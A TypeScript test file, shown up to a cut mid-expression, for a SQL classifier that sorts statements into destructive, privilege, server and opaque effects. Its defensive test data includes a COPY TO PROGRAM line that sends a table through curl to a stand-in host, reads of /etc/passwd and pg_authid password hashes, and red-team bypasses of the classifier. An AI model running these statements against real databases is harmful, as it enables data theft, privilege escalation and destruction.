import { readFileSync } from "node:fs";
import fc from "fast-check";
import { load } from "js-yaml";
import { beforeAll, describe, expect, it } from "vitest";
import { loadSqlParsers } from "../../src/adapters/parsers.ts";
import { isSafe, type Effect, type EffectKind } from "../../src/core/policy/effects.ts";
import type { Parsers } from "../../src/core/policy/parsers.ts";
import { checkMonitoringRoles, classifySql } from "../../src/core/policy/sql/classify-sql.ts";

let parsers: Pick<Parsers, "sql" | "plpgsql">;
beforeAll(async () => {
  parsers = await loadSqlParsers();
});

const classify = (sql: string): Effect[] => classifySql(sql, parsers);
/** The distinct classes found, "read" left out (it rides along with almost everything). */
const classes = (sql: string): EffectKind[] => [...new Set(classify(sql).map((e) => e.effect))].filter((e) => e !== "read").sort();
const onlySafe = (effects: Effect[]): boolean => effects.every((e) => isSafe(e.effect));

// [statement, the exact set of classes besides "read"]
const HOSTILE: [string, EffectKind[]][] = [
  // data
  ["DELETE FROM ticks", ["data"]],
  ["delete from ticks where id = 1", ["data"]],
  ["UPDATE ONLY ticks SET price = 0", ["data"]],
  ["update ticks set price = 0 where true", ["data"]],
  ["INSERT INTO ticks VALUES (1)", ["data"]],
  ["insert into ticks select * from ticks", ["data"]],
  ["MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", ["data"]],
  ["COPY ticks FROM STDIN", ["data"]],
  ["TRUNCATE ticks", ["data"]],
  ["truncate table ticks, quotes cascade", ["data"]],
  ["SELECT nextval('s')", ["data"]],
  ["select setval('s', 1)", ["data"]],
  ["SELECT compress_chunk(c) FROM show_chunks('ticks') c", ["data"]],
  ["SELECT public.decompress_chunk('_timescaledb_internal._hyper_1_1_chunk')", ["data"]],
  ["WITH gone AS (DELETE FROM ticks RETURNING *) SELECT count(*) FROM gone", ["data"]],
  ["with x as (update t set a = 1 returning 1) select 1", ["data"]],
  ["SELECT * FROM (WITH d AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM d) s", ["data"]],
  ["EXPLAIN ANALYZE DELETE FROM ticks", ["data"]],
  ["explain (analyze, buffers) update t set a = 1", ["data"]],
  ["REFRESH MATERIALIZED VIEW v", ["data"]],
  // schema, and DROP of what holds rows is data too
  ["DROP/**/TABLE ticks", ["data", "schema"]],
  ["DROP -- c\nTABLE ticks", ["data", "schema"]],
  ['drop table if exists "Ticks"', ["data", "schema"]],
  ["DROP SCHEMA market CASCADE", ["data", "schema"]],
  ["DROP DATABASE market", ["data", "schema"]],
  ["DROP VIEW v", ["schema"]],
  ["DROP INDEX i", ["schema"]],
  ["DROP FUNCTION f(int) CASCADE", ["data", "schema"]],
  ["DROP EXTENSION timescaledb", ["data", "schema"]],
  ["CREATE TABLE t (a int)", ["schema"]],
  ["ALTER TABLE ticks ADD COLUMN b int", ["schema"]],
  ["ALTER TABLE ticks DROP COLUMN price", ["data", "schema"]],
  ["ALTER TABLE ticks RENAME TO old_ticks", ["schema"]],
  ["CREATE INDEX ON ticks (ts)", ["schema"]],
  ["CREATE VIEW v AS SELECT 1", ["schema"]],
  ["CREATE EXTENSION IF NOT EXISTS dblink", ["schema"]],
  ["COMMENT ON TABLE ticks IS 'x'", ["schema"]],
  ["CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", ["schema"]],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", ["schema"]],
  ["CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'", ["data", "schema"]],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; RETURN 1; END $$", ["data", "schema"]],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE plpythonu AS 'import os'", ["opaque", "schema"]],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC; DELETE FROM t; SELECT 1; END", ["data", "schema"]],
  ["SELECT * INTO new_ticks FROM ticks", ["schema"]],
  ["CREATE TABLE t2 AS SELECT 1", ["schema"]],
  ["SELECT add_compression_policy('ticks', INTERVAL '7 days')", ["schema"]],
  ["SELECT set_chunk_time_interval('ticks', INTERVAL '1 day')", ["schema"]],
  // retention
  ["SELECT drop_chunks('ticks', INTERVAL '30 days')", ["retention"]],
  ["select public.drop_chunks('ticks', older_than => now() - interval '1 day')", ["retention"]],
  ["SELECT add_retention_policy('ticks', INTERVAL '30 days')", ["retention"]],
  ["SELECT remove_retention_policy('ticks')", ["retention"]],
  // privilege
  ["ALTER ROLE app SUPERUSER", ["privilege"]],
  ["alter user app with password 'x'", ["privilege"]],
  ["GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC", ["privilege"]],
  ["grant select on ticks to app", ["privilege"]],
  ["REVOKE ALL ON ticks FROM app", ["privilege"]],
  ["CREATE ROLE boss SUPERUSER LOGIN", ["privilege"]],
  ["CREATE USER mon", ["privilege"]],
  ["CREATE ROLE mon LOGIN PASSWORD 'secret'", ["privilege"]],
  ["CREATE ROLE mon LOGIN IN ROLE app_writers", ["privilege"]],
  ["CREATE ROLE mon LOGIN ROLE postgres", ["privilege"]],
  ["CREATE ROLE postgres2 LOGIN", ["privilege"]],
  ["CREATE GROUP g", ["privilege"]],
  ["GRANT pg_monitor TO mon WITH ADMIN OPTION", ["privilege"]],
  ["GRANT pg_monitor TO mon GRANTED BY postgres", ["privilege"]],
  ["GRANT pg_write_all_data TO mon", ["privilege"]],
  ["GRANT pg_monitor TO PUBLIC", ["privilege"]],
  ["GRANT pg_monitor TO postgres", ["privilege"]],
  ["REVOKE pg_monitor FROM mon", ["privilege"]],
  ["DROP ROLE a, b", ["privilege"]],
  ["DROP ROLE pg_monitor", ["privilege"]],
  ["ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC", ["privilege"]],
  ["REASSIGN OWNED BY app TO mon", ["privilege"]],
  ["DROP OWNED BY app", ["data", "privilege", "schema"]],
  ["SET ROLE postgres", ["privilege"]],
  ["set session authorization postgres", ["privilege"]],
  ["ALTER TABLE ticks OWNER TO mon", ["privilege", "schema"]],
  // server
  ["ALTER SYSTEM SET max_connections = 1000", ["server"]],
  ["alter system reset all", ["server"]],
  ["COPY ticks TO PROGRAM 'curl -d @- http://x'", ["server"]],
  ["COPY ticks FROM PROGRAM 'id'", ["data", "server"]],
  ["COPY (SELECT 1) TO '/tmp/out'", ["server"]],
  ["SELECT lo_import('/etc/passwd')", ["server"]],
  ["SELECT lo_export(1, '/tmp/x')", ["server"]],
  ["SELECT pg_read_file('/etc/passwd')", ["server"]],
  ["select pg_ls_dir('.')", ["server"]],
  ["SELECT pg_terminate_backend(pid) FROM pg_stat_activity", ["server"]],
  ["SELECT pg_catalog.pg_terminate_backend(1)", ["server"]],
  ['SELECT "pg_terminate_backend"(1)', ["server"]],
  ["SELECT pg_cancel_backend(1)", ["server"]],
  ["SELECT pg_promote()", ["server"]],
  ["SELECT pg_create_physical_replication_slot('s')", ["server"]],
  ["SELECT pg_drop_replication_slot('s')", ["server"]],
  ["SELECT pg_switch_wal()", ["server"]],
  ["LOCK TABLE ticks", ["server"]],
  ["lock ticks in access exclusive mode", ["server"]],
  ["VACUUM (FULL) ticks", ["server"]],
  ["VACUUM ticks", ["server"]],
  ["vacuum full", ["server"]],
  ["CLUSTER ticks USING ticks_pkey", ["server"]],
  ["REINDEX TABLE ticks", ["server"]],
  ["CHECKPOINT", ["server"]],
  ["LOAD 'auto_explain'", ["server"]],
  ["SELECT set_config('search_path', 'evil', false)", ["server"]],
  ["SET search_path = evil", ["server"]],
  ["SET work_mem = '4GB'", ["server"]],
  ["reset all", ["server"]],
  ["SELECT dblink_exec('host=x', 'DROP TABLE t')", ["server"]],
  ["SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", ["server"]],
  ["SELECT * FROM ticks FOR UPDATE", ["server"]],
  ["select * from ticks for share skip locked", ["server"]],
  ["PREPARE TRANSACTION 'x'", ["server"]],
  ["NOTIFY jobs, 'run'", ["server"]],
  // opaque: what cannot be understood
  ["DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE ticks'; END $$", ["opaque"]],
  ["DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP END LOOP; END $$", ["opaque"]],
  ["DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'select 1'; END $$", ["opaque"]],
  ["DO LANGUAGE plpython3u $$ import os; os.system('reboot') $$", ["opaque"]],
  ['SELECT "PG_TERMINATE_BACKEND"(1)', ["opaque"]],
  ["SELECT evil.count(*) FROM t", ["opaque"]],
  ["SELECT my_function()", ["opaque"]],
  ["SELECT constructor()", ["opaque"]],
  ["SELECT 1 === 2", ["opaque"]],
  ["SELECT 1 OPERATOR(evil.=) 1", ["opaque"]],
  ["CALL my_procedure()", ["opaque"]],
  ["CALL public.run_job(1000)", ["opaque", "server"]],
  ["TABLE pg_settings", ["privilege"]],
  ["ANALYZE ticks", ["server"]],
  ["EXECUTE prepared_delete", ["opaque"]],
  ["SELECT (", ["opaque"]],
  ["DROP TABLE", ["opaque"]],
  ["", ["opaque"]],
  ["-- only a comment", ["opaque"]],
  // PL/pgSQL: what the block runs is classified
  ["DO $$ BEGIN DROP TABLE ticks; END $$", ["data", "schema"]],
  ["DO $$ BEGIN IF true THEN DELETE FROM ticks; END IF; END $$", ["data"]],
  ["do $$ begin perform pg_terminate_backend(1); end $$", ["server"]],
  ["DO $$ DECLARE n int := nextval('s'); BEGIN NULL; END $$", ["data"]],
  ["DO $$ DECLARE n int; BEGIN n := pg_promote(); END $$", ["server"]],
  ["DO $$ BEGIN WHILE pg_cancel_backend(1) LOOP END LOOP; END $$", ["server"]],
  ["DO $$ BEGIN RAISE NOTICE '%', drop_chunks('t', interval '1 day'); END $$", ["retention"]],
  ["DO $$ BEGIN CREATE ROLE boss SUPERUSER; END $$", ["privilege"]],
  ["DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'ticks'); END $$", ["opaque"]],
  ["DO $$ BEGIN DO $i$ BEGIN DELETE FROM t; END $i$; END $$", ["data"]],
];

// Benign look-alikes: only safe effects.
const BENIGN: string[] = [
  "SELECT pg_reload_conf()",
  "select 1 from pg_roles where rolname = 'x' and rolcanlogin and not rolsuper",
  "SELECT count(*) FROM ticks WHERE note = 'DROP TABLE ticks'",
  "SELECT 1 -- DROP TABLE ticks",
  "/* DELETE FROM ticks */ SELECT 1",
  "SELECT 'pg_terminate_backend(1)'",
  "SELECT $x$DROP TABLE t$x$",
  'SELECT "drop" FROM t',
  "SELECT pg_catalog.now(), pg_catalog.pg_size_pretty(pg_database_size('market'))",
  "SELECT pg_is_in_recovery(), pg_last_wal_replay_lsn(), pg_wal_lsn_diff(pg_current_wal_lsn(), '0/0')",
  "SELECT current_setting('max_connections')::int, has_table_privilege('ticks', 'SELECT'), pg_has_role('mon', 'pg_monitor', 'MEMBER')",
  "SELECT hypertable_size('ticks'), * FROM chunk_compression_stats('ticks')",
  "SELECT count(*) FROM pg_stat_activity WHERE state = 'active' AND now() - query_start > interval '5 min'",
  "SELECT extract(epoch FROM now() - pg_last_xact_replay_timestamp())",
  "SELECT a FROM t WHERE b BETWEEN 1 AND 2 AND c LIKE 'x%' AND d IN (1, 2) AND e IS NOT NULL",
  "VALUES (1), (2)",
  "SHOW max_connections",
  "EXPLAIN SELECT * FROM ticks",
  "BEGIN; SELECT 1; COMMIT",
  "ROLLBACK",
  "SET statement_timeout = '5s'; SET LOCAL lock_timeout TO 1000; SET application_name = 'rounds'",
  "COPY (SELECT 1) TO STDOUT",
  "SELECT 1 UNION SELECT 2",
  "WITH r AS (SELECT 1 AS a) SELECT a FROM r",
  "SELECT 'é'",
  "DO $$ BEGIN RAISE NOTICE 'hello'; END $$",
  "SELECT 1 +++ 2", // the lexer reads 1 + (+(+2)): built-in operators only
];

/** The template's step: one implicit transaction, so if the role already exists the grant never runs. */
const MONITORING_DO = "CREATE ROLE rounds_monitor LOGIN; GRANT pg_monitor TO rounds_monitor;";

describe("classifySql: hostile statements", () => {
  it.each(HOSTILE)("%s", (sql, expected) => {
    const found = classify(sql);
    expect(classes(sql)).toEqual([...expected].sort());
    expect(onlySafe(found)).toBe(false);
  });

  it("has at least 80 hostile cases", () => expect(HOSTILE.length).toBeGreaterThanOrEqual(80));
});

describe("classifySql: benign look-alikes stay safe", () => {
  it.each(BENIGN)("%s", (sql) => {
    const found = classify(sql);
    expect(found.filter((e) => !isSafe(e.effect))).toEqual([]);
  });

  it("SELECT pg_reload_conf() is a reload", () => {
    expect(classify("SELECT pg_reload_conf()").map((e) => e.effect)).toContain("reload");
  });
});

describe("classifySql: statements and their text", () => {
  it("gives every statement at least one effect, naming its own text", () => {
    const found = classify("SELECT 1; SELECT 'é';\nDELETE FROM ticks; SELECT 2");
    expect(found.find((e) => e.effect === "data")?.command).toBe("DELETE FROM ticks");
    expect(new Set(found.map((e) => e.command))).toEqual(new Set(["SELECT 1", "SELECT 'é'", "DELETE FROM ticks", "SELECT 2"]));
  });

  it("finds the one bad statement among several (the 3rd)", () => {
    const found = classify("SELECT 1; SELECT now(); DrOp TaBlE ticks; SELECT 2");
    expect(found.filter((e) => !isSafe(e.effect)).map((e) => [e.effect, e.command])).toEqual([
      ["data", "DrOp TaBlE ticks"],
      ["schema", "DrOp TaBlE ticks"],
    ]);
  });

  it("names the reason of a syntax error and never throws", () => {
    const [only, ...rest] = classify("SELEC 1");
    expect(rest).toEqual([]);
    expect(only?.effect).toBe("opaque");
    expect(only?.rule).toBe("opaque: parse error");
    expect(only?.detail).toMatch(/syntax error/);
  });

  it("classifies a 1 MB statement", () => {
    const literal = `SELECT '${"x".repeat(1_000_000)}'`;
    expect(classes(literal)).toEqual([]);
    const ids = Array.from({ length: 150_000 }, (_, i) => i).join(",");
    expect(ids.length).toBeGreaterThan(900_000);
    expect(classes(`SELECT 1; DELETE FROM ticks WHERE id IN (${ids})`)).toEqual(["data"]);
  });

  it("survives an expression nested deeper than the stack", () => {
    const deep = `SELECT ${"(".repeat(5000)}1${")".repeat(5000)}`;
    const found = classify(deep);
    expect(found.length).toBeGreaterThan(0);
  });

  it("is opaque on a node or statement type outside the vocabulary (a parser newer than the vocabulary)", () => {
    const tree = (stmt: Record<string, unknown>) => ({ sql: () => ({ stmts: [{ stmt }] }), plpgsql: () => [] });
    const unknownNode = classifySql("x", tree({ SelectStmt: { targetList: [{ FuncExpr: {} }] } }));
    expect(unknownNode.map((e) => e.rule)).toContain("opaque: unknown node");
    const unknownStatement = classifySql("x", tree({ FutureStmt: {} }));
    expect(unknownStatement.map((e) => e.effect)).toEqual(["opaque"]);
    // A CALL names no procedure the classifier can trust (search_path): opaque even when empty.
    const nothingFound = classifySql("x", tree({ CallStmt: {} }));
    expect(nothingFound.map((e) => e.rule)).toEqual(["opaque: CALL"]);
  });

  it("stops following SQL embedded too deep", () => {
    let sql = "DELETE FROM t";
    for (let i = 0; i < 8; i += 1) sql = `DO $q${i}$ BEGIN ${sql}; END $q${i}$`;
    expect(classes(sql)).toContain("opaque");
  });
});

// All classified all-safe by classifySql; each confirmed on a real PostgreSQL (embedded, 18.4) as superuser.
const SQL_BYPASSES_3: string[] = [
  // A. ColumnRef function notation: alias.f == f(alias) when alias is a scalar function RTE (ColumnRef is "structural")
  "SELECT g.pg_sleep FROM generate_series(2,2) g",
  "SELECT unnest.pg_sleep FROM unnest(ARRAY[1])",
  "DO $$ BEGIN PERFORM g.pg_sleep FROM generate_series(2,2) g; END $$",
  "SELECT p.pg_terminate_backend FROM unnest(ARRAY(SELECT pid FROM pg_stat_activity WHERE usename = 'app')) p",
  "SELECT f.pg_read_file FROM unnest(ARRAY['/etc/passwd']) f",
  "SELECT x.pg_read_file FROM pg_catalog.unnest(ARRAY['/etc/hostname']) x",
  "SELECT f.pg_read_binary_file FROM unnest(ARRAY['postgresql.conf']) f",
  "SELECT d.pg_ls_dir FROM unnest(ARRAY['.']) d",
  "SELECT u.pg_stat_file FROM unnest(ARRAY['postgresql.conf']) u",
  "SELECT s.nextval FROM unnest(ARRAY['s1'::regclass]) s",
  "SELECT f.lo_import FROM unnest(ARRAY['/etc/hostname']) f",
  "SELECT l.pg_advisory_lock FROM unnest(ARRAY[42::bigint]) l",
  "SELECT u.pg_create_restore_point FROM unnest(ARRAY['x']) u",
  "SELECT x.pg_backup_start FROM unnest(ARRAY['lbl']) x",
  "SELECT x.pg_stat_reset_single_table_counters FROM unnest(ARRAY['st'::regclass]) x",
  "SELECT 1 FROM unnest(ARRAY[5]) u WHERE u.pg_sleep IS NULL",
  "DO $$ DECLARE v text; BEGIN v := (SELECT x.pg_read_file FROM unnest(ARRAY['/etc/passwd']) x); RAISE NOTICE '%', v; END $$",
  // B. timeout "limits" that are no limit (0 was fixed; INT_MAX/24 days is the same thing)
  "SET statement_timeout = '24d'",
  "SET lock_timeout = 2147483647",
  "SET statement_timeout = '24d'; SELECT count(*) FROM generate_series(1, 10000000000000)",
  // C. secrets outside SECRET_RELATIONS (same class as pg_file_settings / pg_user_mappings)
  "SHOW primary_conninfo",
  "SHOW ALL",
  "SELECT current_setting('primary_conninfo')",
  "SELECT setting FROM pg_settings WHERE name = 'primary_conninfo'",
  "SELECT subconninfo FROM pg_subscription",
  "COPY pg_subscription TO STDOUT",
  "SELECT * FROM pg_statistic_ext_data",
  // D. run pre-existing user code (need an object already in the database; confirmed after creating it)
  "CALL lower()",
  "SELECT 'x'::public.evil_domain",
  "ANALYZE",
];

describe("a third red-team round, each run on a real PostgreSQL 18", () => {
  it.each(SQL_BYPASSES_3)("%s is not safe", (sql) => {
    expect(onlySafe(checkMonitoringRoles(classify(sql)))).toBe(false);
  });

  it.each([
    "SELECT c.relname FROM pg_class c",
    "SELECT 'x'::text, 1::int, now()::timestamptz",
    "SHOW server_version",
    "SET statement_timeout = '5s'",
    "SET lock_timeout = 60000",
  ])("%s stays safe", (sql) => {
    expect(onlySafe(classify(sql))).toBe(true);
  });
});

describe("found by red-teaming, each confirmed on a real PostgreSQL 15", () => {
  it.each([
    // (expr).name is the call name(expr)
    "SELECT (pid).pg_terminate_backend FROM pg_stat_activity WHERE usename = 'app'",
    "SELECT ('/etc/shadow'::text).pg_read_file",
    "SELECT ('s1'::regclass).nextval",
    "SELECT (42::bigint).pg_advisory_lock",
    "SELECT (2).pg_sleep",
    "SELECT ('rp1'::text).pg_create_restore_point",
    "SELECT (true).pg_promote",
    "SELECT ('/etc/passwd'::text).lo_import",
    "DO $$ BEGIN PERFORM (pid).pg_terminate_backend FROM pg_stat_activity; END $$",
    "SELECT 1 ORDER BY (1).pg_sleep",
    // user-defined operators hidden in a sublink or an ORDER BY
    "SELECT 1 OPERATOR(public.===) ANY (SELECT 1)",
    "SELECT a FROM t ORDER BY a USING OPERATOR(public.<<<)",
    // secrets and the server's own files
    "SELECT rolpassword FROM pg_authid",
    "COPY pg_authid TO STDOUT",
    "SELECT * FROM pg_file_settings",
    "SELECT * FROM pg_hba_file_rules",
    "SELECT usename, umoptions FROM pg_user_mappings",
    // no timeout at all
    "SET statement_timeout = 0",
    "SET lock_timeout = '0'",
    "SET statement_timeout TO DEFAULT",
  ])("%s is not safe", (sql) => {
    expect(onlySafe(classify(sql))).toBe(false);
  });

  it.each([
    "DO $$ BEGIN IF false THEN CREATE ROLE app LOGIN; END IF; END $$; GRANT pg_monitor TO app",
    "DO $$ BEGIN IF false THEN CREATE ROLE grafana LOGIN; END IF; END $$; DROP ROLE grafana",
    "DO $$ BEGIN CREATE ROLE app LOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END $$; GRANT pg_monitor TO app",
    "BEGIN; SAVEPOINT a; CREATE ROLE app LOGIN; ROLLBACK TO a; GRANT pg_monitor TO app; COMMIT",
  ])("a role 'created' by code that may not run excuses no grant or drop: %s", (sql) => {
    expect(onlySafe(checkMonitoringRoles(classify(sql)))).toBe(false);
  });

  it("a composite field that is a column stays opaque unless it is a known read function (fail closed)", () => {
    expect(classes("SELECT (x).relname FROM (SELECT c FROM pg_class c) s(x)")).toContain("opaque");
  });
});

describe("the monitoring-role rule", () => {
  it("understands the template's monitoring-role step", () => {
    const found = classify(MONITORING_DO);
    expect(found.filter((e) => e.effect === "monitoring-role").map((e) => [e.rule, e.role])).toEqual([
      ["monitoring-role create", "rounds_monitor"],
      ["monitoring-role grant", "rounds_monitor"],
    ]);
    expect(onlySafe(checkMonitoringRoles(found))).toBe(true);
  });

  it.each([
    "CREATE ROLE mon LOGIN",
    "create role mon with login nosuperuser nocreatedb nocreaterole noreplication nobypassrls noinherit",
    "CREATE ROLE mon LOGIN IN ROLE pg_monitor",
    "GRANT pg_monitor, pg_read_all_stats, pg_read_all_settings, pg_stat_scan_tables TO mon",
    "DROP ROLE IF EXISTS mon",
  ])("%s is a monitoring-role effect", (sql) => {
    const found = classify(sql);
    expect(found.map((e) => [e.effect, e.role])).toEqual([["monitoring-role", "mon"]]);
  });

  it("turns a drop of a role the playbook did not create into privilege", () => {
    const out = checkMonitoringRoles(classify("DROP ROLE IF EXISTS app_owner_x"));
    expect(out.map((e) => e.effect)).toEqual(["privilege"]);
    expect(checkMonitoringRoles(classify("DROP ROLE mon")).map((e) => e.effect)).toEqual(["privilege"]);
  });

  it("turns a grant to a role the playbook did not create into privilege", () => {
    expect(checkMonitoringRoles(classify("GRANT pg_monitor TO app")).map((e) => e.effect)).toEqual(["privilege"]);
  });

  it("does not let a drop run before the create that would excuse it", () => {
    const out = checkMonitoringRoles(classify("DROP ROLE IF EXISTS app; CREATE ROLE app LOGIN"));
    expect(out.map((e) => e.effect)).toEqual(["privilege", "monitoring-role"]);
  });

  it("allows grant and drop of the role created earlier in the same playbook", () => {
    const out = checkMonitoringRoles([...classify(MONITORING_DO), ...classify("DROP ROLE IF EXISTS rounds_monitor")]);
    expect(onlySafe(out)).toBe(true);
  });

  it("never allows postgres, pg_* or superuser-looking names, even if forged into an effect", () => {
    for (const role of ["postgres", "pg_monitor", "superman", "db_admin", "root"]) {
      const forged: Effect = { effect: "monitoring-role", rule: "monitoring-role create", detail: "", command: "", role };
      expect(checkMonitoringRoles([forged]).map((e) => e.effect)).toEqual(["privilege"]);
      expect(classes(`CREATE ROLE ${role} LOGIN`)).toEqual(["privilege"]);
    }
  });

  it("CREATE ROLE … SUPERUSER is privilege", () => {
    expect(checkMonitoringRoles(classify("CREATE ROLE mon LOGIN SUPERUSER")).map((e) => e.effect)).toEqual(["privilege"]);
  });

  it("a comment marks only the role the playbook created; on any other role it is not the rule's", () => {
    const made = checkMonitoringRoles(classify("CREATE ROLE mon LOGIN; COMMENT ON ROLE mon IS 'created by rounds change C_1'; GRANT pg_monitor TO mon"));
    expect(made.map((e) => e.rule)).toEqual(["monitoring-role create", "monitoring-role comment", "monitoring-role grant"]);
    expect(checkMonitoringRoles(classify("COMMENT ON ROLE app IS 'created by rounds change C_1'")).map((e) => e.effect)).toEqual(["privilege"]);
    expect(classes("COMMENT ON ROLE postgres IS 'x'")).toEqual(["schema"]);
    expect(classes("COMMENT ON TABLE mon IS 'x'")).toEqual(["schema"]);
  });

  it("the template's rollback drops the role only when this change's marker is on it, inside PL/pgSQL the classifier reads", () => {
    const rollback =
      "DO $$ BEGIN IF EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'mon' AND shobj_description(oid, 'pg_authid') = 'created by rounds change C_1') THEN DROP ROLE mon; END IF; END $$;";
    expect(onlySafe(checkMonitoringRoles([...classify("CREATE ROLE mon LOGIN"), ...classify(rollback)]))).toBe(true);
    // Without the create before it, the same drop is a privilege effect.
    expect(checkMonitoringRoles(classify(rollback)).map((e) => e.effect)).toContain("privilege");
  });

  it("grant of pg_write_all_data is privilege", () => {
    const out = checkMonitoringRoles([...classify("CREATE ROLE mon LOGIN"), ...classify("GRANT pg_write_all_data TO mon")]);
    expect(out.map((e) => e.effect)).toEqual(["monitoring-role", "privilege"]);
  });
});

describe("the template playbooks' SQL", () => {
  const render = (sql: string) =>
    sql.replaceAll("{{table}}", "ticks").replaceAll("{{segment_by}}", "symbol").replaceAll("{{older_than_days}}", "7").replaceAll("{{role}}", "rounds_monitor");
  const stepsOf = (file: string): string[] => {
    const text = readFileSync(new URL(`../../ops-repo-template/playbooks/${file}`, import.meta.url), "utf8");
    const found: string[] = [];
    const visit = (value: unknown): void => {
      if (Array.isArray(value)) value.forEach(visit);
      else if (typeof value === "object" && value !== null) {
        for (const [key, child] of Object.entries(value)) {
          if (key === "sql" && typeof child === "string") found.push(render(child));
          else visit(child);
        }
      }
    };
    visit(load(text));
    return found;
  };

  it("timescaledb-compression classifies as read, data and schema where expected", () => {
    const got = stepsOf("timescaledb-compression.yml").map((sql) => [sql.slice(0, 40), classes(sql)]);
    expect(got.map(([, c]) => c)).toEqual([[], [], [], ["data"], ["schema"], ["data"], [], ["data"], [], ["schema"], []]);
  });

  it("postgres-monitoring-role is understood and safe", () => {
    const effects = stepsOf("postgres-monitoring-role.yml").flatMap((sql) => classify(sql));
    expect(effects.some((e) => e.effect === "opaque")).toBe(false);
    expect(onlySafe(checkMonitoringRoles(effects))).toBe(true);
  });
});

// The oracle knows which destructive core it built and what class that core belongs to; it does not
// ask the classifier. Tokens: keywords ("K"), identifiers ("I", may be quoted), literal text ("L").
type Token = ["K" | "I" | "L", string];
const K = (s: string): Token[] => s.split(" ").map((w) => ["K", w]);
const I = (s: string): Token => ["I", s];
const L = (s: string): Token => ["L", s];
interface Core {
  tokens: Token[];
  effect: EffectKind;
  dml?: boolean;
}
const CORES: Core[] = [
  { tokens: [...K("DROP TABLE"), I("ticks")], effect: "data" },
  { tokens: [...K("DROP TABLE IF EXISTS"), I("ticks"), ...K("CASCADE")], effect: "data" },
  { tokens: [...K("DROP SCHEMA"), I("market"), ...K("CASCADE")], effect: "data" },
  { tokens: [...K("DROP DATABASE"), I("market")], effect: "data" },
  { tokens: [...K("DELETE FROM"), I("ticks")], effect: "data", dml: true },
  { tokens: [...K("DELETE FROM"), I("ticks"), ...K("WHERE"), I("id"), L("= 1")], effect: "data", dml: true },
  { tokens: [...K("UPDATE ONLY"), I("ticks"), ...K("SET"), I("price"), L("= 0")], effect: "data", dml: true },
  { tokens: [...K("UPDATE"), I("ticks"), ...K("SET"), I("price"), L("= 0")], effect: "data", dml: true },
  { tokens: [...K("INSERT INTO"), I("ticks"), ...K("VALUES"), L("(1)")], effect: "data", dml: true },
  { tokens: [...K("TRUNCATE"), I("ticks")], effect: "data" },
  { tokens: [...K("TRUNCATE TABLE"), I("ticks"), ...K("RESTART IDENTITY")], effect: "data" },
  { tokens: [...K("ALTER TABLE"), I("ticks"), ...K("DROP COLUMN"), I("price")], effect: "data" },
  { tokens: [...K("ALTER SYSTEM SET"), I("max_connections"), L("= 5")], effect: "server" },
  { tokens: [...K("ALTER SYSTEM RESET ALL")], effect: "server" },
  { tokens: [...K("GRANT ALL ON"), I("ticks"), ...K("TO PUBLIC")], effect: "privilege" },
  { tokens: [...K("GRANT ALL ON ALL TABLES IN SCHEMA"), I("public"), ...K("TO"), I("app")], effect: "privilege" },
  { tokens: [...K("GRANT"), I("pg_write_all_data"), ...K("TO"), I("app")], effect: "privilege" },
  { tokens: [...K("ALTER ROLE"), I("app"), ...K("SUPERUSER")], effect: "privilege" },
  { tokens: [...K("CREATE ROLE"), I("boss"), ...K("LOGIN SUPERUSER")], effect: "privilege" },
  { tokens: [...K("SET ROLE"), I("postgres")], effect: "privilege" },
  { tokens: [...K("SELECT"), I("pg_terminate_backend"), L("(1)")], effect: "server" },
  { tokens: [...K("SELECT"), I("pg_catalog"), L("."), I("pg_cancel_backend"), L("(1)")], effect: "server" },
  { tokens: [...K("SELECT"), I("pg_promote"), L("()")], effect: "server" },
  { tokens: [...K("SELECT"), I("drop_chunks"), L("('ticks', INTERVAL '1 day')")], effect: "retention" },
  { tokens: [...K("VACUUM FULL"), I("ticks")], effect: "server" },
  { tokens: [...K("VACUUM"), L("(FULL)"), I("ticks")], effect: "server" },
  { tokens: [...K("LOCK TABLE"), I("ticks")], effect: "server" },
  { tokens: [...K("COPY"), I("ticks"), ...K("TO PROGRAM"), L("'sh'")], effect: "server" },
  { tokens: [...K("REINDEX TABLE"), I("ticks")], effect: "server" },
  { tokens: [...K("CLUSTER"), I("ticks")], effect: "server" },
  { tokens: [...K("CHECKPOINT")], effect: "server" },
];
const SEPARATORS = [" ", "  ", "\n", "\t", "/**/", " /* DROP */ ", " -- c\n", "\n-- SELECT 1\n", "/* a /* nested */ b */"];

const randomCase = (word: string, bits: boolean[]): string => [...word].map((ch, i) => (bits[i % bits.length] ? ch.toUpperCase() : ch.toLowerCase())).join("");

const statementArb = fc
  .record({
    core: fc.constantFrom(...CORES),
    bits: fc.array(fc.boolean(), { minLength: 1, maxLength: 12 }),
    seps: fc.array(fc.constantFrom(...SEPARATORS), { minLength: 1, maxLength: 8 }),
    quote: fc.array(fc.boolean(), { minLength: 1, maxLength: 5 }),
    wrap: fc.constantFrom("none", "cte", "do", "do-nested", "after-benign"),
  })
  .map(({ core, bits, seps, quote, wrap }) => {
    const text = core.tokens.map(([kind, word], i) => {
      if (kind === "K") return randomCase(word, bits.slice(i));
      if (kind === "I") return quote[i % quote.length] ? `"${word}"` : randomCase(word, bits.slice(i));
      return word;
    });
    const body = text.map((word, i) => (i === 0 ? word : `${seps[i % seps.length]}${word}`)).join("");
    const wrapped =
      wrap === "cte" && core.dml === true
        ? `WITH gone AS (${body} RETURNING 1) SELECT count(*) FROM gone`
        : wrap === "do"
          ? `DO $$ BEGIN ${body}; END $$`
          : wrap === "do-nested"
            ? `DO $a$ BEGIN IF true THEN ${body}; END IF; END $a$`
            : wrap === "after-benign"
              ? `SELECT 1; SELECT pg_reload_conf(); ${body}`
              : body;
